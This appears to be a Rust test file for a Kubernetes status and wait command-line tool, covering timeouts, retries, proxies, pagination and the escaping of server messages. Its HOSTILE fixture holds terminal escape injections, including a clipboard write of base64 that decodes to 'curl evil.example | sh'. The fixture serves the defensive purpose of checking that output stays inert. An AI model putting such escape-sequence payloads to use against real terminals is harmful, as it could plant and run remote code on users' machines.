//! Network faults and hostile answers: every command ends with exit 2
//! inside its deadline, and what the server says reaches the terminal inert.

use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;

use crate::common::fake_api::{self as fake, Fake};
use crate::{run, scratch, token_kubeconfig};

/// What an attacker puts in a message: a clipboard write (OSC 52), a window
/// title, clear screen, a right-to-left override, a Hangul filler, a C1 CSI.
pub const HOSTILE: &str = "\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{7}\u{1b}]0;owned\u{7}\u{1b}[2J\u{1b}[H\u{202e}txt.exe\u{3164}\u{9b}31m\u{200b}end";
/// How the clipboard write must show once escaped.
const SHOWN: &str = r"\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07";

/// Commands that talk to the server, each with `--request-timeout 1s`.
const COMMANDS: &[&[&str]] = &[
    &["status", "pods/p"],
    &["tree", "pods/p"],
    &["why", "pods/p"],
    &["status"],
    &["wait", "pods/p", "--timeout", "3s"],
];

/// Each command against `server` ends with exit 2 within `bound`.
fn each_fails_in_time(server: &Fake, bound: Duration) -> Vec<String> {
    let dir = scratch();
    let kc = token_kubeconfig(dir.path(), &server.url());
    let mut errors = Vec::new();
    for cmd in COMMANDS {
        let mut args = cmd.to_vec();
        args.extend([
            "--kubeconfig",
            kc.to_str().unwrap(),
            "--request-timeout",
            "1s",
        ]);
        let out = run(dir.path(), &args, Duration::from_secs(30));
        out.assert(2, bound);
        assert!(
            out.stderr.starts_with("error: "),
            "{args:?}: {}",
            out.stderr
        );
        errors.push(out.stderr.clone());
    }
    errors
}

/// `--version` against `server`: exit 0 within its two seconds and a bit.
fn version_in_time(server: &Fake) -> String {
    let dir = scratch();
    let kc = token_kubeconfig(dir.path(), &server.url());
    let out = run(
        dir.path(),
        &["--version", "--kubeconfig", kc.to_str().unwrap()],
        Duration::from_secs(30),
    );
    out.assert(0, Duration::from_secs(4));
    out.stdout.clone()
}

#[test]
fn a_listener_that_never_answers() {
    let server = fake::silent();
    for err in each_fails_in_time(&server, Duration::from_secs(6)) {
        assert!(err.contains("did not answer in time"), "{err}");
    }
    assert!(version_in_time(&server).contains("Server Version: unknown"));
}

#[test]
fn a_tls_handshake_that_never_finishes() {
    // The listener takes the connection and never answers the ClientHello.
    let server = fake::silent();
    let dir = scratch();
    let kc = token_kubeconfig(dir.path(), &format!("https://127.0.0.1:{}", server.port));
    for cmd in COMMANDS {
        let mut args = cmd.to_vec();
        args.extend([
            "--kubeconfig",
            kc.to_str().unwrap(),
            "--request-timeout",
            "1s",
        ]);
        let out = run(dir.path(), &args, Duration::from_secs(30));
        out.assert(2, Duration::from_secs(6));
        assert!(
            out.stderr.starts_with("error: "),
            "{args:?}: {}",
            out.stderr
        );
    }
}

#[test]
fn a_server_that_sends_headers_then_stalls() {
    let server = fake::stalls_after_headers();
    each_fails_in_time(&server, Duration::from_secs(6));
    assert!(version_in_time(&server).contains("Server Version: unknown"));
}

#[test]
fn a_closed_port() {
    let server = fake::refusing();
    for err in each_fails_in_time(&server, Duration::from_secs(3)) {
        assert!(err.contains("cannot reach the API server"), "{err}");
    }
}

#[test]
fn error_messages_and_the_version_from_the_server_are_inert() {
    let server = fake::answering(|path| {
        Some(if path.starts_with("/version") {
            (
                200,
                serde_json::json!({"gitVersion": format!("v1.36.0{HOSTILE}")}).to_string(),
            )
        } else {
            (500, fake::status(500, "InternalError", HOSTILE))
        })
    });
    for err in each_fails_in_time(&server, Duration::from_secs(6)) {
        assert!(err.contains(SHOWN), "the message is shown, escaped: {err}");
    }
    let version = version_in_time(&server);
    assert!(
        version.contains(&format!("Server Version: v1.36.0{SHOWN}")),
        "{version}"
    );
}

#[test]
fn a_failing_conversion_webhook_is_reported_inert() {
    let message = format!(
        "conversion webhook for example.com/v2, Kind=Widget failed: Post \"https://widgets.example.svc:443/convert?timeout=30s\": {HOSTILE}"
    );
    let server = fake::answering(move |path| {
        Some(match fake::discovery(path) {
            Some(doc) => (200, doc),
            None => (500, fake::status(500, "InternalError", &message)),
        })
    });
    let dir = scratch();
    let kc = token_kubeconfig(dir.path(), &server.url());
    for args in [
        ["status", "widgets/w"],
        ["tree", "widgets/w"],
        ["why", "widgets/w"],
    ] {
        let mut args = args.to_vec();
        args.extend(["--kubeconfig", kc.to_str().unwrap()]);
        let out = run(dir.path(), &args, Duration::from_secs(30));
        out.assert(2, Duration::from_secs(5));
        assert!(out.stderr.contains("conversion webhook"), "{}", out.stderr);
        assert!(out.stderr.contains(SHOWN), "{}", out.stderr);
    }
}

/// A Widget that is not ready yet, as a controller would leave it: since
/// just now, so that its wait is still within its bound.
fn widget() -> serde_json::Value {
    let now = jiff::Timestamp::now()
        .strftime("%Y-%m-%dT%H:%M:%SZ")
        .to_string();
    serde_json::json!({
        "apiVersion": "example.com/v1", "kind": "Widget",
        "metadata": {"name": "w", "namespace": "default", "uid": "u-w", "resourceVersion": "7",
                     "generation": 1, "creationTimestamp": "2026-01-01T00:00:00Z"},
        "status": {"observedGeneration": 1, "conditions": [{"type": "Ready", "status": "False",
                   "reason": "Provisioning", "message": "waiting for capacity",
                   "lastTransitionTime": now}]}
    })
}

#[test]
fn wait_timeout_is_a_hard_deadline_when_the_server_hangs() {
    // The server answers the first reads, then hangs from the first watch:
    // neither the wait nor the diagnosis after it may outlive --timeout.
    let hung = Arc::new(AtomicBool::new(false));
    let flag = hung.clone();
    let server = widget_server(widget, move |path| {
        if path.contains("watch=") {
            flag.store(true, Ordering::SeqCst);
        }
        flag.load(Ordering::SeqCst).then_some(None)
    });
    let out = wait_for_widget(&server, "3s", Duration::from_secs(30));
    // 3s, and a little for starting and ending the process; before, the
    // diagnosis after the timeout waited out a whole request timeout.
    out.assert(1, Duration::from_millis(4500));
    assert!(hung.load(Ordering::SeqCst), "the watch was opened");
    assert!(
        out.stderr
            .contains("error: timed out after 3s waiting for Widget/w"),
        "{}",
        out.stderr
    );
    assert!(
        out.stdout.contains("not read before --timeout"),
        "{}",
        out.stdout
    );
}

/// A fake API server for `status pods/p`: discovery, the events list, and
/// a ready pod `p` in `default`, whose first GET `first_try` answers (it
/// returns whether the connection may carry another request). Also the
/// number of GETs of the pod.
fn pod_after_a_first_try(
    first_try: impl Fn(&mut std::net::TcpStream) -> bool + Send + Sync + 'static,
) -> (Fake, Arc<std::sync::atomic::AtomicUsize>) {
    let tries = Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let counted = tries.clone();
    let server = fake::serve(move |req, stream| {
        if let Some(body) = fake::discovery(&req.path) {
            return fake::reply(stream, 200, &body);
        }
        let path = req.path.split('?').next().unwrap_or("");
        if path == "/api/v1/namespaces/default/pods/p" {
            if counted.fetch_add(1, Ordering::SeqCst) == 0 {
                return first_try(stream);
            }
            let pod = serde_json::json!({"apiVersion": "v1", "kind": "Pod",
                "metadata": {"name": "p", "namespace": "default", "uid": "u1", "creationTimestamp": "2026-01-10T10:00:00Z"},
                "spec": {"containers": [{"name": "c", "image": "nginx"}]},
                "status": {"phase": "Running", "conditions": [{"type": "Ready", "status": "True"}],
                           "containerStatuses": [{"name": "c", "ready": true, "restartCount": 0, "state": {"running": {}}}]}});
            return fake::reply(stream, 200, &pod.to_string());
        }
        if path.ends_with("/events") {
            let list = serde_json::json!({"kind": "EventList", "apiVersion": "v1", "metadata": {"resourceVersion": "1"}, "items": []});
            return fake::reply(stream, 200, &list.to_string());
        }
        fake::reply(stream, 404, &fake::status(404, "NotFound", "not here"))
    });
    (server, tries)
}

/// `status pods/p` against `server` answers Converged, exit 0.
fn pod_is_converged_at(server: &Fake) {
    let dir = scratch();
    let kc = token_kubeconfig(dir.path(), &server.url());
    let out = run(
        dir.path(),
        &[
            "status",
            "pods/p",
            "-n",
            "default",
            "--kubeconfig",
            kc.to_str().unwrap(),
        ],
        Duration::from_secs(30),
    );
    out.assert(0, Duration::from_secs(10));
    assert!(out.stdout.contains("Converged"), "{}", out.stdout);
}

/// A server that turns a request away for load (429, as the API server does
/// while a new CRD's storage initializes) is asked again after its
/// `Retry-After`, inside the deadline, and the answer is whole.
#[test]
fn a_busy_server_is_asked_again_after_its_retry_after() {
    use std::io::Write;
    let (server, tries) = pod_after_a_first_try(|stream| {
        let body = fake::status(429, "TooManyRequests", "storage is (re)initializing");
        let busy = format!(
            "HTTP/1.1 429 Too Many Requests\r\nContent-Type: application/json\r\nRetry-After: 1\r\nContent-Length: {}\r\n\r\n{body}",
            body.len()
        );
        stream.write_all(busy.as_bytes()).is_ok()
    });
    pod_is_converged_at(&server);
    assert_eq!(
        tries.load(Ordering::SeqCst),
        2,
        "asked once more, after the wait"
    );
}

/// A connection the server closes before answering (the request was never
/// processed, as after an HTTP/2 GOAWAY or a kept-alive connection closed
/// as it was reused) is not a dead cluster: the GET is sent again on a new
/// connection, and the answer is whole.
#[test]
fn a_request_the_server_closed_unanswered_is_sent_again() {
    let (server, tries) = pod_after_a_first_try(|stream| {
        let _ = stream.shutdown(std::net::Shutdown::Both);
        false
    });
    pod_is_converged_at(&server);
    assert_eq!(tries.load(Ordering::SeqCst), 2, "sent once more");
}

/// A fake API server for a Widget `w` in `default`, as `widget` makes it:
/// discovery, the Widget by name and in its list, every other list empty.
/// `first` answers before that when it has something to say: `Some(None)`
/// is no answer at all (a watch that hangs).
fn widget_server(
    widget: fn() -> serde_json::Value,
    first: impl Fn(&str) -> Option<Option<(u16, String)>> + Send + Sync + 'static,
) -> Fake {
    fake::answering(move |path| {
        if let Some(doc) = fake::discovery(path) {
            return Some((200, doc));
        }
        if let Some(answer) = first(path) {
            return answer;
        }
        let path = path.split('?').next().unwrap();
        Some(if path.ends_with("/widgets/w") {
            (200, widget().to_string())
        } else {
            let items = if path.ends_with("/widgets") {
                vec![widget()]
            } else {
                vec![]
            };
            (200, serde_json::json!({"kind": "List", "apiVersion": "v1", "metadata": {"resourceVersion": "7"}, "items": items}).to_string())
        })
    })
}

/// `wait widgets/w --timeout TIMEOUT` against `server`, stopped (and
/// failed) at `limit`.
fn wait_for_widget(server: &Fake, timeout: &str, limit: Duration) -> crate::Run {
    let dir = scratch();
    let kc = token_kubeconfig(dir.path(), &server.url());
    run(
        dir.path(),
        &[
            "wait",
            "widgets/w",
            "--timeout",
            timeout,
            "--kubeconfig",
            kc.to_str().unwrap(),
        ],
        limit,
    )
}

/// A Widget whose controller says it is ready.
fn ready_widget() -> serde_json::Value {
    let mut w = widget();
    w["status"]["conditions"][0] = serde_json::json!({"type": "Ready", "status": "True",
        "reason": "Ready", "message": "", "lastTransitionTime": "2026-01-01T00:00:00Z"});
    w
}

/// `wait` never exits 0 on an answer with a gap: a converged Widget whose
/// children (the pods list of its tree) may not be read cannot be
/// confirmed converged, and a forbidden list will not heal by waiting.
#[test]
fn wait_never_says_converged_over_a_list_that_failed() {
    let server = widget_server(ready_widget, |path| {
        if path.contains("watch=") {
            return Some(None);
        }
        path.split('?').next().unwrap().ends_with("/pods").then(|| {
            Some((
                403,
                fake::status(
                    403,
                    "Forbidden",
                    "pods is forbidden: User \"ci\" cannot list resource \"pods\"",
                ),
            ))
        })
    });
    let out = wait_for_widget(&server, "20s", Duration::from_secs(40));
    // At once, not at the timeout: permissions do not change by waiting.
    out.assert(1, Duration::from_secs(10));
    assert!(
        out.stderr
            .contains("Widget/w cannot be confirmed converged: pods")
            && out.stderr.contains("forbidden"),
        "{}",
        out.stderr
    );
    assert!(out.stdout.contains("Incomplete"), "{}", out.stdout);
}

/// A kubeconfig that names a CA and skips verification is refused, as
/// kubectl refuses it, before any connection; the flag
/// `--insecure-skip-tls-verify` drops the kubeconfig's CA, as kubectl's does.
#[test]
fn a_ca_beside_insecure_skip_tls_verify_is_refused() {
    let dir = scratch();
    let ca = dir.path().join("ca.crt");
    let made = std::process::Command::new("openssl")
        .args([
            "req",
            "-x509",
            "-newkey",
            "rsa:2048",
            "-nodes",
            "-days",
            "1",
            "-subj",
            "/CN=fake-ca",
        ])
        .arg("-keyout")
        .arg(dir.path().join("ca.key"))
        .arg("-out")
        .arg(&ca)
        .output()
        .expect("openssl runs");
    assert!(
        made.status.success(),
        "{}",
        String::from_utf8_lossy(&made.stderr)
    );
    let server = fake::refusing();
    let kc = dir.path().join("kubeconfig");
    std::fs::write(
        &kc,
        format!(
            "apiVersion: v1\nkind: Config\nclusters:\n- name: c\n  cluster:\n    server: https://127.0.0.1:{}\n    certificate-authority: {}\n    insecure-skip-tls-verify: true\ncontexts:\n- name: c\n  context: {{cluster: c, user: u}}\ncurrent-context: c\nusers:\n- name: u\n  user: {{token: t0ken}}\n",
            server.port,
            ca.display()
        ),
    )
    .unwrap();
    let kc = kc.to_str().unwrap();
    let out = run(
        dir.path(),
        &["status", "--kubeconfig", kc],
        Duration::from_secs(30),
    );
    out.assert(2, Duration::from_secs(5));
    assert!(
        out.stderr
            .contains("specifying a root certificates file with the insecure flag is not allowed"),
        "{}",
        out.stderr
    );
    let out = run(
        dir.path(),
        &["status", "--kubeconfig", kc, "--insecure-skip-tls-verify"],
        Duration::from_secs(30),
    );
    out.assert(2, Duration::from_secs(5));
    assert!(!out.stderr.contains("root certificates"), "{}", out.stderr);
}

/// A password in the server's URL is never printed: not in the connection
/// error, not in `-v 8`'s request lines, not in a bad URL's message.
#[test]
fn a_password_in_the_server_url_is_never_shown() {
    let dir = scratch();
    let server = fake::refusing();
    for url in [
        format!("https://alice:s3cr3tPW@127.0.0.1:{}", server.port),
        format!("https://alice:s3cr3tPW@127.0.0.1:{} bad", server.port),
    ] {
        let out = run(
            dir.path(),
            &["-s", &url, "--token", "t0ken", "-v", "8", "status"],
            Duration::from_secs(30),
        );
        out.assert(2, Duration::from_secs(5));
        assert!(out.stderr.contains("127.0.0.1"), "{}", out.stderr);
        assert!(
            !out.stderr.contains("s3cr3t") && !out.stdout.contains("s3cr3t"),
            "{}",
            out.stderr
        );
    }
}

/// `-v 8` logs the Accept header each request was sent with: a watch of
/// metadata only says so, as its list does, so that an audit of the
/// metadata-only promise by the log sees what the server saw.
#[test]
fn the_logged_accept_of_every_watch_is_the_one_sent() {
    // Each watch ends at once, and is opened again.
    let server = widget_server(widget, |path| {
        path.contains("watch=").then(|| Some((200, String::new())))
    });
    let dir = scratch();
    let kc = token_kubeconfig(dir.path(), &server.url());
    let out = run(
        dir.path(),
        &[
            "wait",
            "widgets/w",
            "--timeout",
            "2s",
            "-v",
            "8",
            "--kubeconfig",
            kc.to_str().unwrap(),
        ],
        Duration::from_secs(30),
    );
    assert_eq!(out.code, 1, "{}", out.stderr);
    let seen = server.seen.lock().unwrap().clone();
    let watches: Vec<&fake::Seen> = seen.iter().filter(|s| s.path.contains("watch=")).collect();
    assert!(!watches.is_empty(), "the wait watched");
    let lines: Vec<&str> = out.stderr.lines().collect();
    let mut checked = 0;
    for (i, line) in lines.iter().enumerate() {
        let Some(path) = line
            .strip_prefix("GET ")
            .and_then(|l| l.split_whitespace().next())
            .filter(|u| u.contains("watch="))
        else {
            continue;
        };
        let logged = lines[i + 1]
            .strip_prefix("Request Header: \"Accept: ")
            .and_then(|l| l.strip_suffix('"'))
            .expect("the Accept header follows the request line");
        let path = &path[server.url().len()..];
        let sent = watches
            .iter()
            .find(|s| s.path == path)
            .and_then(|s| s.header("accept"))
            .expect("the logged watch was sent");
        assert_eq!(logged, sent, "{path}");
        checked += 1;
    }
    assert!(checked > 0, "{}", out.stderr);
    assert!(
        watches.iter().any(|s| s
            .header("accept")
            .is_some_and(|a| a.contains("PartialObjectMetadata"))),
        "a metadata-only watch was among them"
    );
}

/// Runs `status widgets/w --watch` for `secs` against a server whose every
/// watch of Widgets is answered with `watch_body` and ends; returns the
/// output and the number of LISTs and watches of Widgets it was sent.
fn watch_widgets_against(watch_body: &'static str, secs: u64) -> (crate::Run, usize, usize) {
    let server = widget_server(widget, move |path| {
        path.contains("watch=").then(|| {
            path.contains("/widgets")
                .then(|| (200, watch_body.to_string()))
        })
    });
    let dir = scratch();
    let kc = token_kubeconfig(dir.path(), &server.url());
    let out = crate::common::run::Cmd::reconcile()
        .args([
            "status",
            "widgets/w",
            "--watch",
            "--kubeconfig",
            kc.to_str().unwrap(),
        ])
        .env("HOME", dir.path())
        .env("KUBECACHEDIR", dir.path().join("cache"))
        .env("NO_COLOR", "1")
        .stop_after(Duration::from_secs(secs))
        .run();
    let seen = server.seen.lock().unwrap();
    let widgets = |watch: bool| {
        seen.iter()
            .filter(|s| {
                let path = s.path.split('?').next().unwrap_or("");
                path.ends_with("/widgets") && s.path.contains("watch=") == watch
            })
            .count()
    };
    (out, widgets(false), widgets(true))
}

/// A watch that ends at once having brought no change (an ERROR event
/// such as `etcdserver: leader changed`, a lone bookmark, a line that is
/// not an event) is opened again only after a backoff, and after a few
/// such ends `--watch` says so. Before: about 2,000 re-opens in 20 s.
#[test]
fn watches_that_end_at_once_are_backed_off_and_said() {
    const LEADER: &str = "{\"type\":\"ERROR\",\"object\":{\"kind\":\"Status\",\"apiVersion\":\"v1\",\"status\":\"Failure\",\"message\":\"etcdserver: leader changed\",\"code\":500}}\n";
    const BOOKMARK: &str = "{\"type\":\"BOOKMARK\",\"object\":{\"kind\":\"Widget\",\"apiVersion\":\"example.com/v1\",\"metadata\":{\"resourceVersion\":\"8\"}}}\n";
    const GARBAGE: &str = "not an event\n";
    for body in [LEADER, BOOKMARK, GARBAGE] {
        let (out, _, watches) = watch_widgets_against(body, 6);
        // 0.5 + 1 + 2 + 4 s of backoff fit in 6 s: five or six opens.
        assert!(
            (2..=8).contains(&watches),
            "{watches} watches in 6s for {body}"
        );
        assert!(
            out.stdout
                .contains("the watch of widgets.example.com ended")
                && out.stdout.contains("as soon as it opens"),
            "{body}: {}",
            out.stdout
        );
        crate::assert_inert(&out.stdout);
    }
}

/// A server that answers every watch with 410 Gone sends the watcher back
/// to a full LIST each time: those LISTs are backed off too. Before: about
/// 1,000 LISTs in 20 s.
#[test]
fn expired_watches_relist_with_a_backoff() {
    const GONE: &str = "{\"type\":\"ERROR\",\"object\":{\"kind\":\"Status\",\"apiVersion\":\"v1\",\"status\":\"Failure\",\"message\":\"too old resource version\",\"reason\":\"Expired\",\"code\":410}}\n";
    let (_, lists, watches) = watch_widgets_against(GONE, 6);
    assert!(lists <= 10, "{lists} LISTs of Widgets in 6s");
    assert!(watches <= 8, "{watches} watches of Widgets in 6s");
}

/// A user with only an `auth-provider` (removed from kubectl in 1.26) is
/// told it is not supported and what replaces it, not to "log in again".
#[test]
fn an_auth_provider_user_is_told_what_to_use_instead() {
    let dir = scratch();
    let server = fake::refusing();
    for (provider, instead) in [("gcp", "gke-gcloud-auth-plugin"), ("oidc", "kubelogin")] {
        let kc = crate::kubeconfig(
            dir.path(),
            &server.url(),
            &format!("auth-provider:\n  name: {provider}\n  config: {{}}"),
        );
        let out = run(
            dir.path(),
            &["status", "--kubeconfig", kc.to_str().unwrap()],
            Duration::from_secs(30),
        );
        out.assert(2, Duration::from_secs(5));
        assert!(
            out.stderr.contains(&format!(
                "auth-provider \"{provider}\", which is not supported"
            )) && out.stderr.contains(instead)
                && !out.stderr.contains("log in again"),
            "{}",
            out.stderr
        );
    }
}

/// `--watch | head -1`: once the reader has gone, the watch ends within a
/// second or two, though it has nothing new to write (it ran on until its
/// next write before).
#[test]
fn a_watch_ends_when_its_reader_has_gone() {
    use std::io::BufRead;
    let server = widget_server(widget, |path| path.contains("watch=").then_some(None));
    let dir = scratch();
    let kc = token_kubeconfig(dir.path(), &server.url());
    let mut child = std::process::Command::new(crate::common::run::bin())
        .args([
            "status",
            "widgets/w",
            "--watch",
            "--kubeconfig",
            kc.to_str().unwrap(),
        ])
        .env("HOME", dir.path())
        .env("KUBECACHEDIR", dir.path().join("cache"))
        .env("NO_COLOR", "1")
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let mut first = String::new();
    std::io::BufReader::new(child.stdout.take().unwrap())
        .read_line(&mut first)
        .unwrap();
    assert!(
        first.contains("NAME") || first.contains("Widget/w"),
        "{first}"
    );
    // The reader is dropped here: the pipe's read end is closed.
    let closed = std::time::Instant::now();
    let status = loop {
        if let Some(status) = child.try_wait().unwrap() {
            break status;
        }
        if closed.elapsed() > Duration::from_secs(10) {
            let _ = child.kill();
            panic!("--watch ran on for 10s after its reader had gone");
        }
        std::thread::sleep(Duration::from_millis(50));
    };
    assert!(
        closed.elapsed() < Duration::from_secs(3),
        "{:?}",
        closed.elapsed()
    );
    assert_eq!(status.code(), Some(0));
}

/// A server that hands out continue tokens without end (empty pages, each
/// with a new token) is cut at `MAX_PAGES` pages, a gap named in the
/// answer, not run to the command's deadline.
#[test]
fn an_endless_chain_of_pages_is_cut() {
    let page = Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let counted = page.clone();
    let server = fake::answering(move |path| {
        if let Some(doc) = fake::discovery(path) {
            return Some((200, doc));
        }
        if path.contains("watch=") {
            return None;
        }
        let n = counted.fetch_add(1, Ordering::SeqCst);
        let token = if path.split('?').next().unwrap().ends_with("/pods") {
            format!("page-{n}")
        } else {
            String::new()
        };
        Some((
            200,
            serde_json::json!({"kind": "List", "apiVersion": "v1",
            "metadata": {"resourceVersion": "7", "continue": token}, "items": []})
            .to_string(),
        ))
    });
    let out = status_of(&server, Duration::from_secs(120));
    out.assert(1, Duration::from_secs(30));
    assert!(
        out.stdout.contains("more than 5000 pages"),
        "{}\n{}",
        out.stdout,
        out.stderr
    );
}

/// A CONNECT proxy on 127.0.0.1 that sends every tunnel to `target`
/// (whatever host it was asked for) and counts the tunnels it opened.
fn connect_proxy(target: u16) -> (u16, Arc<std::sync::atomic::AtomicUsize>) {
    use std::io::{Read, Write};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let tunnels = Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let counted = tunnels.clone();
    std::thread::spawn(move || {
        for mut client in listener.incoming().flatten() {
            let counted = counted.clone();
            std::thread::spawn(move || {
                let mut head = Vec::new();
                let mut byte = [0u8; 1];
                while !head.ends_with(b"\r\n\r\n") {
                    if client.read(&mut byte).unwrap_or(0) == 0 {
                        return;
                    }
                    head.push(byte[0]);
                }
                if !head.starts_with(b"CONNECT ") {
                    let _ = client
                        .write_all(b"HTTP/1.1 405 Method Not Allowed\r\nContent-Length: 0\r\n\r\n");
                    return;
                }
                let Ok(mut server) = std::net::TcpStream::connect(("127.0.0.1", target)) else {
                    return;
                };
                counted.fetch_add(1, Ordering::SeqCst);
                let _ = client.write_all(b"HTTP/1.1 200 Connection established\r\n\r\n");
                let (mut c2, mut s2) = (client.try_clone().unwrap(), server.try_clone().unwrap());
                std::thread::spawn(move || {
                    let _ = std::io::copy(&mut c2, &mut s2);
                    let _ = s2.shutdown(std::net::Shutdown::Write);
                });
                let _ = std::io::copy(&mut server, &mut client);
                let _ = client.shutdown(std::net::Shutdown::Write);
            });
        }
    });
    (port, tunnels)
}

/// The kubeconfig's `proxy-url` and the environment's `HTTP(S)_PROXY` are
/// used as kubectl uses them (through `CONNECT`), and `NO_PROXY` is heard.
#[test]
fn the_kubeconfigs_and_the_environments_proxy_are_taken() {
    let (server, _) = pod_after_a_first_try(|stream| {
        fake::reply(
            stream,
            503,
            &fake::status(503, "ServiceUnavailable", "once more"),
        )
    });
    let (proxy, tunnels) = connect_proxy(server.port);
    let dir = scratch();
    // proxy-url in the kubeconfig, for a loopback server too.
    let kc = dir.path().join("kubeconfig");
    std::fs::write(
        &kc,
        format!(
            "apiVersion: v1\nkind: Config\nclusters:\n- name: c\n  cluster:\n    server: http://127.0.0.1:{}\n    proxy-url: http://127.0.0.1:{proxy}\ncontexts:\n- name: c\n  context: {{cluster: c, user: u, namespace: default}}\ncurrent-context: c\nusers:\n- name: u\n  user: {{token: t0ken}}\n",
            server.port
        ),
    )
    .unwrap();
    let out = run(
        dir.path(),
        &["status", "pods/p", "--kubeconfig", kc.to_str().unwrap()],
        Duration::from_secs(30),
    );
    out.assert(0, Duration::from_secs(10));
    let through = tunnels.load(Ordering::SeqCst);
    assert!(through >= 1, "no tunnel was opened");
    // HTTP_PROXY for a server by name, which only the proxy can reach.
    let named = dir.path().join("named");
    std::fs::write(
        &named,
        "apiVersion: v1\nkind: Config\nclusters:\n- name: c\n  cluster:\n    server: http://kube.invalid:80\ncontexts:\n- name: c\n  context: {cluster: c, user: u, namespace: default}\ncurrent-context: c\nusers:\n- name: u\n  user: {token: t0ken}\n",
    )
    .unwrap();
    let with_env = |no_proxy: &str| {
        crate::common::run::Cmd::reconcile()
            .args(["status", "pods/p", "--kubeconfig", named.to_str().unwrap()])
            .env("HOME", dir.path())
            .env("KUBECACHEDIR", dir.path().join("cache"))
            .env("NO_COLOR", "1")
            .env("HTTP_PROXY", format!("http://127.0.0.1:{proxy}"))
            .env("NO_PROXY", no_proxy)
            .deadline(Duration::from_secs(30))
            .run()
    };
    let out = with_env("");
    out.assert(0, Duration::from_secs(10));
    assert!(
        tunnels.load(Ordering::SeqCst) > through,
        "HTTP_PROXY was not used"
    );
    let before = tunnels.load(Ordering::SeqCst);
    let out = with_env("kube.invalid");
    assert_eq!(out.code, 2, "{}", out.stderr);
    assert_eq!(
        tunnels.load(Ordering::SeqCst),
        before,
        "NO_PROXY was not heard"
    );
}

/// A list whose answer is cut off as its connection goes (headers, part of
/// the body, then the connection closed) is a named gap of that read, as a
/// timeout on it is, not the end of the whole command (exit 2 before): the
/// server answered every other read.
#[test]
fn a_list_cut_off_midway_is_a_gap_not_the_end() {
    use std::io::Write;
    let tries = Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let counted = tries.clone();
    let server = fake::serve(move |req, stream| {
        if let Some(body) = fake::discovery(&req.path) {
            return fake::reply(stream, 200, &body);
        }
        if req.path.contains("watch=") {
            return false;
        }
        let path = req.path.split('?').next().unwrap_or("");
        if path.ends_with("/pods") {
            counted.fetch_add(1, Ordering::SeqCst);
            let _ = stream.write_all(
                b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{\"kind\":\"PodList\",\"items\":[",
            );
            let _ = stream.shutdown(std::net::Shutdown::Both);
            return false;
        }
        let list = serde_json::json!({"kind": "List", "apiVersion": "v1", "metadata": {"resourceVersion": "1"}, "items": []});
        fake::reply(stream, 200, &list.to_string())
    });
    let out = status_of(&server, Duration::from_secs(60));
    out.assert(1, Duration::from_secs(15));
    assert!(
        out.stdout.contains("pods") && out.stdout.contains("cut off"),
        "{}\n{}",
        out.stdout,
        out.stderr
    );
    assert!(tries.load(Ordering::SeqCst) >= 1);
}

/// `status` of a server whose pod lists `pods` answers (with the Accept
/// header it was sent), everything else being empty: a protobuf body for
/// `Some`, an empty JSON list for `None`.
fn status_with_pods(
    pods: impl Fn(&str) -> Option<&'static [u8]> + Send + Sync + 'static,
) -> crate::Run {
    use std::io::Write;
    let server = fake::serve(move |req, stream| {
        if let Some(body) = fake::discovery(&req.path) {
            return fake::reply(stream, 200, &body);
        }
        if req.path.contains("watch=") {
            return false;
        }
        let path = req.path.split('?').next().unwrap_or("");
        if path.ends_with("/pods")
            && let Some(body) = pods(req.header("accept").unwrap_or(""))
        {
            let head = format!(
                "HTTP/1.1 200 OK\r\nContent-Type: application/vnd.kubernetes.protobuf\r\nContent-Length: {}\r\n\r\n",
                body.len()
            );
            let _ = stream.write_all(head.as_bytes());
            let _ = stream.write_all(body);
            return true;
        }
        let list = serde_json::json!({"kind": "List", "apiVersion": "v1", "metadata": {"resourceVersion": "1"}, "items": []});
        fake::reply(stream, 200, &list.to_string())
    });
    status_of(&server, Duration::from_secs(60))
}

/// `status` against the fake `server`, with a token, stopped after `limit`.
fn status_of(server: &Fake, limit: Duration) -> crate::Run {
    let dir = scratch();
    let kc = token_kubeconfig(dir.path(), &server.url());
    run(
        dir.path(),
        &["status", "--kubeconfig", kc.to_str().unwrap()],
        limit,
    )
}

/// A page the server answered in protobuf that cannot be read here is
/// asked for once more, in JSON, and the answer is whole.
#[test]
fn a_protobuf_page_that_cannot_be_read_is_asked_again_in_json() {
    let accepts: Arc<std::sync::Mutex<Vec<String>>> = Arc::default();
    let seen = Arc::clone(&accepts);
    let out = status_with_pods(move |accept| {
        seen.lock().unwrap().push(accept.to_string());
        // A PodList where a PartialObjectMetadataList was asked.
        let pod_list: &[u8] = b"k8s\0\x0a\x0d\x0a\x02v1\x12\x07PodList\x12\x00";
        accept
            .starts_with("application/vnd.kubernetes.protobuf")
            .then_some(pod_list)
    });
    out.assert(0, Duration::from_secs(15));
    assert!(!out.stdout.contains("cannot be read"), "{}", out.stdout);
    let accepts = accepts.lock().unwrap();
    assert_eq!(accepts.len(), 2, "{accepts:?}");
    assert!(
        accepts[0].starts_with("application/vnd.kubernetes.protobuf"),
        "{accepts:?}"
    );
    assert!(
        accepts[1].starts_with("application/json;as=PartialObjectMetadataList"),
        "{accepts:?}"
    );
}

/// A metadata-only list answered as protobuf that is not what it says
/// (the server's prefix, then noise) is a named gap of that read, never a
/// guess at its objects, and the answer never says all is converged: it
/// answers the same to the JSON asked for again.
#[test]
fn a_protobuf_answer_that_cannot_be_read_is_a_gap() {
    let out = status_with_pods(|_| Some(b"k8s\0\x0a\xff\xff\xff\xff\x0f\x1b[2J"));
    out.assert(1, Duration::from_secs(15));
    assert!(
        out.stdout.contains("pods") && out.stdout.contains("protobuf answer cannot be read"),
        "{}\n{}",
        out.stdout,
        out.stderr
    );
    assert!(!out.stdout.contains("\x1b[2J"), "{}", out.stdout);
    assert!(
        !out.stdout.to_lowercase().contains("all converged"),
        "{}",
        out.stdout
    );
}

/// Lists of a group version after its first ask to be no older than what
